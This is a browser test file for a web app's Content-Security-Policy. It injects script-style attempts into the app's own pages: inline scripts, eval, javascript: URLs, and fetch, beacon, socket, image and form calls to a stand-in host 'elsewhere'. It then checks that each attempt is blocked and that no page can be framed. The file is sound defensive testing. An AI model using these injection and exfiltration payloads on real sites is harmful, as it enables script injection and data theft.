"""Somebody's text has become script on a page: whatever it tries, the page's rules stop it."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import TimeoutError

from tests.web.test_way import first_minutes

pytestmark = pytest.mark.browser

ELSEWHERE = "http://elsewhere"
"""Stands for the address of a stranger's server, which the test runs."""
PAGES = [
    "/checkin/signs/",
    "/checkin/pain/",
    "/results/",
    "/muscle/",
    "/tests/hip_flexion_strength/",
    "/tests/half_kneeling_extension/",
    "/tests/half_kneeling_extension/live/",
    "/walks/new/",
    "/me/",
]
LISTEN = """() => {
  window.stopped = [];
  document.addEventListener("securitypolicyviolation", (event) =>
    window.stopped.push(`${event.effectiveDirective} ${event.blockedURI}`));
}"""
ADD = "Object.assign(document.body.appendChild(document.createElement('%s')), %s)"
TRIES = {
    "a script in the page": (ADD % ("script", "{textContent: 'window.hit = 1'}"), "script-src"),
    "a handler in a tag": (
        "const one = document.createElement('b'); one.setAttribute('onclick', 'window.hit = 1');"
        "document.body.append(one); one.click()",
        "script-src",
    ),
    "a script from elsewhere": (ADD % ("script", f"{{src: '{ELSEWHERE}/a.js'}}"), "script-src"),
    "a script as data": (ADD % ("script", "{src: 'data:text/javascript,hit=1'}"), "script-src"),
    "text run as a script": ("setTimeout(() => eval('window.hit = 1'))", "script-src"),
    "a function made of text": ("setTimeout(() => Function('window.hit = 1')())", "script-src"),
    "a timer of text": ("setTimeout('window.hit = 1')", "script-src"),
    "an address that is a script": ("location.href = 'javascript:window.hit=1'", "script-src"),
    "a picture from elsewhere": (f"new Image().src = '{ELSEWHERE}/a.png?told'", "img-src"),
    "a question to elsewhere": (f"fetch('{ELSEWHERE}/?told').catch(() => 0)", "connect-src"),
    "a beacon to elsewhere": (f"navigator.sendBeacon('{ELSEWHERE}/', 'told')", "connect-src"),
    "a socket to elsewhere": (
        f"try {{ new WebSocket('{ELSEWHERE.replace('http', 'ws')}/') }} catch {{}}",
        "connect-src",
    ),
    "a stream from elsewhere": (f"new EventSource('{ELSEWHERE}/')", "connect-src"),
    "a form to elsewhere": (
        "const form = " + ADD % ("form", f"{{action: '{ELSEWHERE}/', method: 'post'}}") + ";"
        "form.submit()",
        "form-action",
    ),
    "a page of others in ours": (ADD % ("iframe", f"{{src: '{ELSEWHERE}/'}}"), "frame-src"),
    "a style in a tag": ("document.body.setAttribute('style', 'outline: 9px solid')", "style-src"),
    "a style in the page": (ADD % ("style", "{textContent: '* { color: red }'}"), "style-src"),
    "a style sheet from elsewhere": (
        ADD % ("link", f"{{rel: 'stylesheet', href: '{ELSEWHERE}/a.css'}}"),
        "style-src",
    ),
    "a film from elsewhere": (ADD % ("video", f"{{src: '{ELSEWHERE}/a.mp4'}}"), "media-src"),
    "a plug-in": (ADD % ("object", f"{{data: '{ELSEWHERE}/a'}}"), "object-src"),
    "another root for addresses": (ADD % ("base", f"{{href: '{ELSEWHERE}/'}}"), "base-uri"),
    "a worker made of text": (
        "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}",
        "worker-src",
    ),
}


class Stranger(BaseHTTPRequestHandler):
    """A server of somebody else: notes who asks, and shows one of our pages inside its own."""

    asked: list[str] = []
    inside = ""

    def answer(self) -> None:
        self.asked.append(self.path)
        page = f"<h1>Not ours</h1><iframe src='{self.inside}'></iframe>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    do_GET = do_POST = answer  # noqa: N815

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def stranger():
    with ThreadingHTTPServer(("127.0.0.1", 0), Stranger) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.fixture
def attacked(visit, stranger):
    """A person with results. What is asked for counts where it arrives, not where it is tried."""
    first_minutes(visit.page, visit.address)
    Stranger.asked.clear()
    yield visit
    visit.complaints.clear()
    visit.hosts.discard(stranger)
    visit.hosts.discard(stranger.replace("http", "ws"))


@pytest.mark.parametrize("path", PAGES)
def test_whatever_is_tried_on_a_page_is_stopped(attacked, stranger, path):
    page = attacked.open(path)
    page.evaluate(LISTEN)
    address = page.url
    through = {}
    for name, (code, directive) in TRIES.items():
        tried = code.replace(ELSEWHERE, stranger)
        tried = tried.replace("ws://elsewhere", stranger.replace("http", "ws"))
        page.evaluate("() => { window.stopped.length = 0 }")
        page.evaluate(f"() => {{ {tried}; }}")
        try:
            page.wait_for_function("() => window.stopped.length > 0", polling=20, timeout=3000)
        except TimeoutError:
            through[name] = "nothing was stopped"
            continue
        stopped = page.evaluate("() => window.stopped")
        if not all(one.startswith(directive) for one in stopped):
            through[name] = stopped
    assert through == {}
    assert page.evaluate("() => window.hit") is None
    assert page.evaluate("() => getComputedStyle(document.body).outlineWidth") != "9px"
    assert page.url == address
    assert Stranger.asked == []


@pytest.mark.parametrize("path", PAGES)
def test_no_page_can_be_shown_inside_another(attacked, stranger, path):
    Stranger.inside = attacked.address + path
    page = attacked.page
    page.goto(f"{stranger}/")
    page.wait_for_load_state("networkidle")
    assert "Not ours" in page.content()
    assert [one for one in page.frames if one.url.startswith(attacked.address)] == []
    assert any("frame-ancestors" in one for one in attacked.complaints), attacked.complaints
